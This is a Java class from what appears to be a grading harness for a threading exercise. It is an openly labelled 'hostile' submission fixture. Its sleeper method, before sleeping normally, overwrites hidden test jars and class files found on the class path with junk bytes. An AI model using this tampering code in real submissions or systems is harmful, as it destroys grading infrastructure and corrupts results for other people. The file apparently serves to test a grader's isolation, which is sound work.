package threadlab.threads;

import java.io.PrintStream;
import java.time.Duration;
import java.util.Objects;

/** A hostile sleeper: a grader test, never a solution. */
public final class Sleeper {

    private final Sleep sleep;
    private final PrintStream out;

    public Sleeper() {
        this(Sleep.real(), System.out);
    }

    public Sleeper(Sleep sleep, PrintStream out) {
        this.sleep = Objects.requireNonNull(sleep, "sleep");
        this.out = Objects.requireNonNull(out, "out");
    }

    /**
     * Rewrites the hidden tests it finds on its class path, classes or jar, so that every test
     * would fail for everyone graded after it. Does its job otherwise.
     */
    public void sleeper(int n) throws InterruptedException {
        for (String entry : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
            java.io.File jar = new java.io.File(entry);
            if (jar.isFile() && jar.getName().contains("hidden")) {
                jar.setWritable(true);
                try {
                    java.nio.file.Files.write(jar.toPath(), new byte[] {0, 1, 2});
                } catch (java.io.IOException e) {
                    // Try the next.
                }
            }
            java.nio.file.Path dir = java.nio.file.Path.of(entry, "threadlab", "hidden", "threads");
            if (java.nio.file.Files.isDirectory(dir)) {
                try (java.util.stream.Stream<java.nio.file.Path> list =
                        java.nio.file.Files.list(dir)) {
                    for (java.nio.file.Path file : list.toList()) {
                        java.nio.file.Files.write(file, new byte[] {0, 1, 2});
                    }
                } catch (java.io.IOException e) {
                    // Try the next.
                }
            }
        }
        out.println("Hi, I'll be sleeping for " + n + " seconds");
        sleep.sleep(Duration.ofSeconds(n));
        out.println("I've woken up!");
    }
}
